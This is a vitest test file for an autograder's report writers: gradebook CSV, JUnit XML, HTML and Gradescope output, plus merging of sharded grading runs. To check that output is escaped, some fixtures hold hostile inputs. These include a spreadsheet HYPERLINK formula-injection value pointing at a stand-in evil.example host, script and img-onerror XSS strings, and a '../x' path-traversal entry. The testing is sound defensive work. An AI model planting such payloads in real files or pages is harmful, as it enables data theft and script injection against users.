import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { mergeRuns } from '../merge';
import {
  classResultSchema,
  type CheckGrade,
  type ClassResult,
  type ExerciseGrade,
  type StudentResult,
} from '../result';
import { root } from '../../../bin/project.mjs';
import { fingerprints, type SimilarPair } from '../similarity';
import { writeOutputs } from './write';
import { gradebookCsv } from './gradebook';
import { gradescopeResults, points } from './gradescope';
import { htmlReport } from './html';
import { junitXml } from './junit';

const SCRIPT = '<script>alert(1)</script>';
const ESCAPED_SCRIPT = '&lt;script&gt;alert(1)&lt;/script&gt;';
// biome-ignore lint/suspicious/noControlCharactersInRegex: what junit.ts must remove
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;

/** A graded 05-softmax: three checks sharing 10 points, passed as given. */
function softmaxGrade(passed: [boolean, boolean, boolean], failure = 'row 0 sums to 1.2, not 1'): ExerciseGrade {
  const names = ['every row is a distribution', 'matches tf.softmax', 'leaks no tensors'];
  const kinds = ['property', 'reference', 'leak'];
  const checks: CheckGrade[] = names.map((name, i) => ({
    name,
    kind: kinds[i]!,
    passed: passed[i]!,
    message: passed[i] ? undefined : failure,
    details: passed[i] ? undefined : ['on input [[1, 2], [3, 4]]'],
    weight: 1,
    score: passed[i] ? 10 / 3 : 0,
    maxScore: 10 / 3,
  }));
  return {
    id: '05-softmax',
    status: 'graded',
    score: checks.reduce((s, c) => s + c.score, 0),
    maxScore: 10,
    checks,
    ms: 120,
  };
}

const missing: ExerciseGrade = {
  id: '01-synthetic-data',
  status: 'missing',
  reason: 'no 01-synthetic-data/synthetic-data.ts in the submission',
  score: 0,
  maxScore: 10,
  checks: [],
  ms: 0,
};

function student(name: string, exercises: ExerciseGrade[], problems: string[] = []): StudentResult {
  return {
    student: name,
    problems,
    exercises,
    score: exercises.reduce((s, e) => s + e.score, 0),
    maxScore: exercises.reduce((s, e) => s + e.maxScore, 0),
    ms: 1500,
    fingerprints: { '05-softmax': [1, 2, 3] },
  };
}

function run(students: StudentResult[], extra: Partial<ClassResult> = {}): ClassResult {
  return classResultSchema.parse({
    tool: 'd2l-ts grade',
    seed: 7,
    runsScale: 1,
    exercises: ['01-synthetic-data', '05-softmax'],
    rubric: 'rubrics/default.json',
    sandbox: { active: ["Node's permission model"], missing: ['network isolation (unshare --net needs root)'] },
    startedAt: '2026-01-01T10:00:00.000Z',
    ms: 4200,
    problems: [],
    students,
    ...extra,
  });
}

describe('gradebookCsv', () => {
  const names = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    '+1',
    '@x',
    '-2',
    '\tTab',
    'bob, jr',
    'say "hi"',
    'two\nlines',
    'alice',
  ];
  const csv = gradebookCsv(run(names.map((n) => student(n, [missing, softmaxGrade([true, true, false])]))));

  test('a cell a spreadsheet would read as a formula gets a leading apostrophe, and cells are quoted where CSV needs it', () => {
    const row = '0,6.67,6.67,20,0';
    expect(csv).toBe(
      `${[
        'student,01-synthetic-data,05-softmax,total,max,problems',
        `"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",${row}`,
        `'+1,${row}`,
        `'@x,${row}`,
        `'-2,${row}`,
        `'\tTab,${row}`,
        `"bob, jr",${row}`,
        `"say ""hi""",${row}`,
        `"two\nlines",${row}`,
        `alice,${row}`,
      ].join('\n')}\n`,
    );
  });

  test('an exercise a student did not submit is 0 in their row, and the problems column counts lines', () => {
    const r = run([student('carol', [softmaxGrade([true, true, true])], ['one', 'two'])]);
    expect(gradebookCsv(r)).toBe('student,01-synthetic-data,05-softmax,total,max,problems\ncarol,0,10,10,10,2\n');
  });
});

describe('junitXml', () => {
  const hostile = run([
    student(SCRIPT, [
      missing,
      softmaxGrade([true, false, false], `${SCRIPT} & "quotes" 'too' \u0000\u0007\u001b[31mred\u001b[0m`),
    ]),
    student('alice', [missing, softmaxGrade([true, true, true])]),
  ]);
  const xml = junitXml(hostile);

  test('a student name and a message with markup are escaped, so the XML has no raw <script', () => {
    expect(xml).not.toMatch(/<script/i);
    expect(xml).toContain(`<testsuite name="${ESCAPED_SCRIPT}"`);
    expect(xml).toContain('&amp; &quot;quotes&quot; &apos;too&apos;');
  });

  test('control characters XML forbids are dropped, and every & starts an entity', () => {
    expect(xml).not.toMatch(CONTROL);
    expect(xml).toContain('[31mred[0m');
    expect(xml.match(/&(?!(lt|gt|amp|quot|apos);)/g)).toBeNull();
  });

  test('a suite per student, a case per check or per exercise not graded, and the failures counted', () => {
    expect(xml.match(/<testsuite /g)).toHaveLength(2);
    expect(xml).toContain('tests="4" failures="3" time="1.500"');
    expect(xml).toContain('tests="4" failures="1" time="1.500"');
    expect(xml).toContain(
      '<testcase classname="alice.01-synthetic-data" name="graded"><failure message="no 01-synthetic-data/synthetic-data.ts in the submission"/></testcase>',
    );
    expect(xml).toContain('<testcase classname="alice.05-softmax" name="matches tf.softmax"></testcase>');
    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="d2l-ts grade, seed 7">')).toBe(
      true,
    );
    expect(xml.trimEnd().endsWith('</testsuites>')).toBe(true);
  });
});

describe('htmlReport', () => {
  const hostile = run(
    [
      student(
        SCRIPT,
        [{ ...missing, reason: `no file ${SCRIPT}` }, softmaxGrade([true, false, true], SCRIPT)],
        [`archive entry ${SCRIPT} skipped`],
      ),
      student('alice', [missing, softmaxGrade([true, true, true])]),
    ],
    { problems: [`${SCRIPT}.txt: not a folder or a .zip/.tar.gz archive; ignored`] },
  );
  hostile.students[0]!.exercises[1]!.checks[1]!.output = `${SCRIPT}\n<img src=x onerror=alert(2)>`;
  hostile.students[0]!.exercises[1]!.checks[1]!.name = `matches ${SCRIPT}`;
  const pairs: SimilarPair[] = [{ exercise: '05-softmax', a: SCRIPT, b: 'alice', score: 0.9, sizes: [10, 12] }];

  test('a student name, a check name, a message, printed output, a reason and a problem with <script> are all escaped', async () => {
    const html = await htmlReport(hostile, pairs);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain(`<b>${ESCAPED_SCRIPT}</b>`);
    expect(html).toContain(`<td>${ESCAPED_SCRIPT}</td><td>alice</td>`);
    expect(html).toContain(`matches ${ESCAPED_SCRIPT}`);
    expect(html).toContain(`(no file ${ESCAPED_SCRIPT})`);
    expect(html).toContain(`archive entry ${ESCAPED_SCRIPT} skipped`);
    expect(html).toContain(`${ESCAPED_SCRIPT}.txt: not a folder`);
    expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
  });

  test('the report shows the seed, the sandbox and the totals', async () => {
    const html = await htmlReport(hostile, []);
    expect(html).toContain('Seed 7 (regrade with <code>--seed 7</code>');
    expect(html).toContain('Missing: network isolation (unshare --net needs root)');
    expect(html).toContain('2 submissions, exercises 01-synthetic-data, 05-softmax');
    expect(html).toContain('<svg');
    expect(html).toContain(
      'No pair of submissions, and no submission and the model solution or the reference, shares 70% or more',
    );
  });
});

describe('gradescopeResults', () => {
  const typed = {
    ...softmaxGrade([true, true, false]),
    typeErrors: ['softmax.ts(3,7): Type string is not assignable to type number.'],
  };
  const s = student(
    'alice',
    [missing, typed],
    ['alice.zip: entry "../x" would be written outside the submission (path traversal); skipped'],
  );
  const r = run([s]);
  const results = gradescopeResults(s, r);

  test("one test per check, one for the missing exercise, and the tests' scores sum to the student's score", () => {
    expect(results.tests.map((t) => [t.name, t.status])).toEqual([
      ['01-synthetic-data: not graded', 'failed'],
      ['05-softmax: every row is a distribution', 'passed'],
      ['05-softmax: matches tf.softmax', 'passed'],
      ['05-softmax: leaks no tensors', 'failed'],
    ]);
    expect(results.score).toBe(points(s.score));
    expect(results.tests.reduce((a, t) => a + t.score, 0)).toBeCloseTo(s.score, 1);
    expect(results.tests.reduce((a, t) => a + t.max_score, 0)).toBeCloseTo(s.maxScore, 1);
  });

  test('the missing exercise is a failed test worth its points, with the reason', () => {
    expect(results.tests[0]).toEqual({
      name: '01-synthetic-data: not graded',
      score: 0,
      max_score: 10,
      status: 'failed',
      output: 'no 01-synthetic-data/synthetic-data.ts in the submission',
      tags: ['01-synthetic-data'],
      visibility: 'visible',
    });
  });

  test('a failed check tells what failed and on what input; type errors are noted once, with no points deducted', () => {
    expect(results.tests[3]!.output).toBe('row 0 sums to 1.2, not 1\non input [[1, 2], [3, 4]]');
    expect(results.tests[1]!.output).toBe(
      'passed\ntype errors (no points deducted):\nsoftmax.ts(3,7): Type string is not assignable to type number.',
    );
    expect(results.tests.filter((t) => t.output.includes('type errors'))).toHaveLength(1);
  });

  test("the submission's problems and the seed are in the overall output", () => {
    expect(results.output).toBe(
      'graded by d2l-ts with seed 7\nalice.zip: entry "../x" would be written outside the submission (path traversal); skipped',
    );
    expect(results.execution_time).toBe(2);
  });
});

describe('mergeRuns', () => {
  const base = mkdtempSync(join(tmpdir(), 'd2l-merge-test-'));
  afterAll(() => rmSync(base, { recursive: true, force: true }));
  let counter = 0;
  /** Writes a run as a shard's grading.json; returns its folder and file. */
  const shard = (r: ClassResult) => {
    const dir = join(base, `shard-${++counter}`);
    mkdirSync(dir);
    writeFileSync(join(dir, 'grading.json'), JSON.stringify(r));
    return { dir, file: join(dir, 'grading.json') };
  };
  const [alice, bob, carol] = ['alice', 'bob', 'carol'].map((n, i) =>
    student(n, [missing, softmaxGrade([true, i > 0, i > 1])]),
  );
  const one = run([carol!, alice!], {
    shard: { index: 1, count: 2 },
    startedAt: '2026-01-01T10:00:05.000Z',
    ms: 1000,
    problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored'],
  });
  const two = run([bob!], {
    shard: { index: 2, count: 2 },
    startedAt: '2026-01-01T10:00:00.000Z',
    ms: 3000,
    problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored', 'x: y'],
  });

  test('two shards merge into the union of their students, sorted, with the earliest start and the longest time', () => {
    const merged = mergeRuns([shard(one).dir, shard(two).dir]);
    expect(classResultSchema.parse(merged)).toEqual(merged);
    expect(merged).toEqual({
      ...one,
      shard: undefined,
      startedAt: '2026-01-01T10:00:00.000Z',
      ms: 3000,
      problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored', 'x: y'],
      students: [alice, bob, carol],
    });
    expect(merged.shard).toBeUndefined();
  });

  test('shards graded with different seeds are refused, naming both files', () => {
    const [a, b] = [shard(one), shard({ ...two, seed: 8 })];
    expect(() => mergeRuns([a.dir, b.dir])).toThrow(
      `${b.file}: seed 8 differs from ${a.file}'s 7: the shards were not graded alike`,
    );
  });

  test('shards graded with a different rubric or runs scale are refused, naming both files', () => {
    const [a, b, c] = [shard(one), shard({ ...two, rubric: 'strict.json' }), shard({ ...two, runsScale: 2 })];
    expect(() => mergeRuns([a.dir, b.dir])).toThrow(
      `${b.file}: rubric strict.json differs from ${a.file}'s rubrics/default.json: the shards were not graded alike`,
    );
    expect(() => mergeRuns([a.dir, c.dir])).toThrow(
      `${c.file}: runsScale 2 differs from ${a.file}'s 1: the shards were not graded alike`,
    );
  });

  test('shards that graded different exercises are refused, naming both files', () => {
    const [a, b] = [shard(one), shard({ ...two, exercises: ['05-softmax'] })];
    expect(() => mergeRuns([a.dir, b.dir])).toThrow(`${b.file}: its exercises differ from ${a.file}'s`);
  });

  test('a student graded in two shards is refused, naming the student and both files', () => {
    const [a, b] = [shard(one), shard({ ...two, students: [bob!, alice!] })];
    expect(() => mergeRuns([a.dir, b.dir])).toThrow(`alice is graded in both ${a.file} and ${b.file}`);
  });

  test('a folder without grading.json, a file that is not a grading run, and no folder at all are refused with one line', () => {
    const empty = join(base, 'empty');
    mkdirSync(empty);
    expect(() => mergeRuns([empty])).toThrow(`${join(empty, 'grading.json')}: ENOENT: no such file or directory`);
    const bad = shard(one);
    writeFileSync(bad.file, JSON.stringify({ ...one, seed: 1.5 }));
    expect(() => mergeRuns([bad.dir])).toThrow(
      new RegExp(`^${bad.file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: seed: .+$`),
    );
    expect(() => mergeRuns([])).toThrow('nothing to merge: name the output folders of the shards');
  });
});

describe('mergeRuns refuses an incomplete set of shards', () => {
  const base = mkdtempSync(join(tmpdir(), 'd2l-merge-shards-'));
  afterAll(() => rmSync(base, { recursive: true, force: true }));
  let counter = 0;
  const shardDir = (r: ClassResult) => {
    const dir = join(base, `s-${++counter}`);
    mkdirSync(dir);
    writeFileSync(join(dir, 'grading.json'), JSON.stringify(r));
    return dir;
  };
  const [alice, bob, carol] = ['alice', 'bob', 'carol'].map((n) => student(n, [missing]));
  const of3 = (index: number, s: StudentResult) => run([s], { shard: { index, count: 3 } });

  test('all three shards of three merge', () => {
    const merged = mergeRuns([shardDir(of3(1, alice!)), shardDir(of3(2, bob!)), shardDir(of3(3, carol!))]);
    expect(merged.students.map((s) => s.student)).toEqual(['alice', 'bob', 'carol']);
  });

  test('a missing shard is named', () => {
    expect(() => mergeRuns([shardDir(of3(1, alice!)), shardDir(of3(3, carol!))])).toThrow(
      'shard 2/3 missing: merge all 3 shards of the grading',
    );
  });

  test('the same shard twice, shards of different counts, and a run that is no shard are refused', () => {
    const [a, b] = [shardDir(of3(1, alice!)), shardDir(of3(1, bob!))];
    expect(() => mergeRuns([a, b])).toThrow(
      `${join(b, 'grading.json')} and ${join(a, 'grading.json')} are both shard 1/3`,
    );
    const four = shardDir(run([bob!], { shard: { index: 2, count: 4 } }));
    expect(() => mergeRuns([a, four])).toThrow(
      `${join(four, 'grading.json')}: shard 2/4, but ${join(a, 'grading.json')} is of 3`,
    );
    const whole = shardDir(run([bob!]));
    expect(() => mergeRuns([a, whole])).toThrow(`${join(whole, 'grading.json')}: not a shard (graded without --shard)`);
  });
});

describe('Gradescope scores add up', () => {
  /** Seven checks sharing 10 points: 1.428571... each, which rounds to 1.43 (7 x 1.43 = 10.01). */
  const sevenths = (passed: number, share = 1): ExerciseGrade => {
    const checks: CheckGrade[] = Array.from({ length: 7 }, (_, i) => ({
      name: `check ${i}`,
      kind: i === 0 ? 'reference' : 'property',
      passed: i < passed,
      weight: 1,
      score: i < passed ? (i === 0 ? 10 / 7 : (share * 10) / 7) : 0,
      maxScore: 10 / 7,
    }));
    return {
      id: '05-softmax',
      status: 'graded',
      score: checks.reduce((a, c) => a + c.score, 0),
      maxScore: 10,
      checks,
      ms: 1,
    };
  };
  const sums = (s: StudentResult) => {
    const r = gradescopeResults(s, run([s]));
    const add = (xs: number[]) => Math.round(xs.reduce((a, b) => a + b, 0) * 100) / 100;
    return { score: r.score, tests: add(r.tests.map((t) => t.score)), max: add(r.tests.map((t) => t.max_score)), r };
  };

  test('per-test scores and maxima sum to the submission score and the total exactly', () => {
    for (const passed of [0, 1, 3, 7]) {
      const s = student('x', [sevenths(passed), sevenths(passed)]);
      const { score, tests, max, r } = sums(s);
      expect(max).toBe(20);
      expect(tests).toBe(score);
      for (const t of r.tests) expect(t.score).toBeLessThanOrEqual(t.max_score);
    }
  });

  test('a passing check that earned part of its points says why', () => {
    const s = student('x', [sevenths(7, 0.5)]);
    const { r, score, tests } = sums(s);
    expect(tests).toBe(score);
    expect(r.tests[1]!.output).toBe(
      "passed, for 0.71 of its 1.43 points: a check of this kind earns the share its exercise's anchor checks (reference, gradient, training) earned, here 50%",
    );
    expect(r.tests[0]!.output).toBe('passed');
  });
});

describe('the similarity report compares submissions with the model solutions and the references', () => {
  const out = mkdtempSync(join(tmpdir(), 'd2l-similar-model-'));
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  test('a copy of the model solution and a copy of the reference are flagged; honest code is not', async () => {
    const read = (...p: string[]) => readFileSync(join(root, ...p), 'utf8');
    const stub = read('exercises', '01-synthetic-data', 'synthetic-data.ts');
    // 05's reference is one line (tf.softmax): too short to judge, so 01's is the oracle copied here.
    const honest = `import * as tf from '@tensorflow/tfjs';
import { makeRng } from 'd2l-ts/reference/random';
export function syntheticData(w: tf.Tensor1D, b: number, n: number, seed: number) {
  const X = tf.randomNormal([n, w.shape[0]], 0, 1, 'float32', seed + 1) as tf.Tensor2D;
  const e = tf.randomNormal([n, 1], 0, 0.01, 'float32', seed + 2);
  const y = tf.add(tf.add(tf.matMul(X, tf.expandDims(w, 1)), tf.scalar(b)), e) as tf.Tensor2D;
  e.dispose();
  return { X, y };
}
export function* dataIter(batchSize: number, X: tf.Tensor2D, y: tf.Tensor2D, seed: number) {
  const order = makeRng(seed).shuffle([...Array(X.shape[0]).keys()]);
  while (order.length > 0) {
    const take = order.splice(0, batchSize);
    const idx = tf.tensor1d(take, 'int32');
    yield [tf.gather(X, idx), tf.gather(y, idx)] as [tf.Tensor2D, tf.Tensor2D];
    idx.dispose();
  }
}`;
    const s = (name: string, code: string) => ({
      ...student(name, [missing]),
      fingerprints: { '01-synthetic-data': fingerprints(code, stub) },
    });
    const r = run(
      [
        s('copier', read('solutions', '01-synthetic-data', 'synthetic-data.ts')),
        s('oracle-reader', read('reference', '01-synthetic-data.ts')),
        s('honest', honest),
      ],
      { exercises: ['01-synthetic-data'] },
    );
    await writeOutputs(r, out);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    const table = html.slice(html.indexOf('<h2>Similar code</h2>'), html.indexOf('<h2>Students</h2>'));
    expect(table).toMatch(/<td>01-synthetic-data<\/td><td>\(model solution\)<\/td><td>copier<\/td>/);
    expect(table).toMatch(/<td>\(reference\)<\/td><td>oracle-reader<\/td>/);
    expect(table).not.toContain('<td>honest</td>');
    expect(table).not.toMatch(/<td>\(model solution\)<\/td><td>\(reference\)<\/td>/);
  });
});
